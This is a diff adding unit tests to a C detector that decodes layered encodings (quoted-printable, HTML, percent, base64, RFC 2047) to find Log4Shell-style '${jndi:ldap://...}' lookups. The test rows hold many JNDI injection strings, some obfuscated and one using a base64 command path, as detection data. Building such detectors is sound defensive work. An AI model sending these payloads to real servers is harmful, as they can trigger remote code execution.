@@ -85,13 +85,64 @@ static void check_rows(const struct row *rows, size_t n)
 static void what_asks_is_not_peeled(void)
 {
     static const struct row rows[] = {
-        {SPAN_LITERAL("x ${jndi:ldap://h/%41+&amp;\\u0041} y"), "ldap://h/%41+&amp;\\u0041", "",
-         "${jndi:ldap://h/%41+&amp;\\u0041}"},
+        {SPAN_LITERAL("x ${jndi:ldap://h/%41+&#65;\\u0041} y"), "ldap://h/%41+&#65;\\u0041", "",
+         "${jndi:ldap://h/%41+&#65;\\u0041}"},
         {SPAN_LITERAL("${jndi:ldap://h/Basic/Command/Base64/JHtqbmRpOng6eX0=}"),
          "ldap://h/Basic/Command/Base64/JHtqbmRpOng6eX0=", "",
          "${jndi:ldap://h/Basic/Command/Base64/JHtqbmRpOng6eX0=}"},
     };
     check_rows(rows, ARRAY_LEN(rows));
+}
+
+/* An encoder that leaves a look-up as it is shows in the name. */
+static void layers_that_only_a_name_shows(void)
+{
+    static const struct row rows[] = {
+        {SPAN_LITERAL("a=3Db ${jndi:ldap://h/a?b=3D1}"), "ldap://h/a?b=1", "quoted-printable",
+         "${jndi:ldap://h/a?b=3D1}"},
+        {SPAN_LITERAL("${jndi:ldap://h/=C3=A4}"), "ldap://h/\xc3\xa4", "quoted-printable",
+         "${jndi:ldap://h/=C3=A4}"},
+        {SPAN_LITERAL("{\"a\":\"${jndi:ldap:\\/\\/h\\/b}\"}"), "ldap://h/b", "js-escape",
+         "${jndi:ldap:\\/\\/h\\/b}"},
+        {SPAN_LITERAL("${jndi:ldap://h/\\u00e4}"), "ldap://h/\xc3\xa4", "json-unicode",
+         "${jndi:ldap://h/\\u00e4}"},
+        {SPAN_LITERAL("${jndi:\\\\-ldap://h/b:-}"), "ldap://h/b", "js-escape",
+         "${jndi:\\\\-ldap://h/b:-}"},
+        {SPAN_LITERAL("${jndi:ldap://h/?a=1&amp;b}"), "ldap://h/?a=1&b", "html",
+         "${jndi:ldap://h/?a=1&amp;b}"},
+        {SPAN_LITERAL("%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa+b%7D"), "ldap://h/a b", "percent plus",
+         "%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa+b%7D"},
+        {SPAN_LITERAL("JHtqbmRpOmxkYXA6Ly9oL2E9DQpifQ=="), "ldap://h/ab", "base64 quoted-printable",
+         "JHtqbmRpOmxkYXA6Ly9oL2E9DQpifQ=="},
+        /* not in all of the text, or of what nobody encodes */
+        {SPAN_LITERAL("a=b ${jndi:ldap://h/a?b=3D1}"), "ldap://h/a?b=3D1", "",
+         "${jndi:ldap://h/a?b=3D1}"},
+        {SPAN_LITERAL("${jndi:ldap://h/a?b=41}"), "ldap://h/a?b=41", "", "${jndi:ldap://h/a?b=41}"},
+        {SPAN_LITERAL("${jndi:ldap:\\\\h}"), "ldap:\\\\h", "", "${jndi:ldap:\\\\h}"},
+        {SPAN_LITERAL("${jndi:ldap://h/\\u00e4\\-}"), "ldap://h/\\u00e4\\-", "",
+         "${jndi:ldap://h/\\u00e4\\-}"},
+        {SPAN_LITERAL("${jndi:ldap://h/?a&amp;b&c}"), "ldap://h/?a&amp;b&c", "",
+         "${jndi:ldap://h/?a&amp;b&c}"},
+        {SPAN_LITERAL("%24%7Bjndi%3Aldap://h/a+b%7D"), "ldap://h/a+b", "percent",
+         "%24%7Bjndi%3Aldap://h/a+b%7D"},
+    };
+    check_rows(rows, ARRAY_LEN(rows));
+}
+
+/* What begins the words is escaped, but not the base64 in them. */
+static void encoded_words_within_other_layers(void)
+{
+    static const struct row rows[] = {
+        {SPAN_LITERAL("=3D?utf-8?B?JHtqbmRpOmxkYXA6Ly94?=3D =3D?utf-8?B?L2F9?=3D"), "ldap://x/a",
+         "quoted-printable rfc2047", NULL},
+        {SPAN_LITERAL("&#61;&#63;utf-8&#63;B&#63;JHtqbmRpOmxkYXA6Ly94&#63;&#61; "
+                      "&#61;&#63;utf-8&#63;B&#63;L2F9&#63;&#61;"),
+         "ldap://x/a", "html rfc2047", NULL},
+    };
+    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+        peel(rows[i].text);
+        CU_ASSERT(name_is(rows[i].name) && encodings_are(rows[i].encodings));
+    }
 }
 
 static void layers_of_escapes(void)
@@ -509,6 +560,8 @@ static void gate_patterns_are_found_in_what_they_are_for(void)
 
 static CU_TestInfo layer_tests[] = {
     {"what asks is not peeled", what_asks_is_not_peeled},
+    {"layers that only a name shows", layers_that_only_a_name_shows},
+    {"encoded words within other layers", encoded_words_within_other_layers},
     {"layers of escapes", layers_of_escapes},
     {"layers as a whole", layers_as_a_whole},
     {"base64, alone and in its place", base64_alone_and_in_its_place},
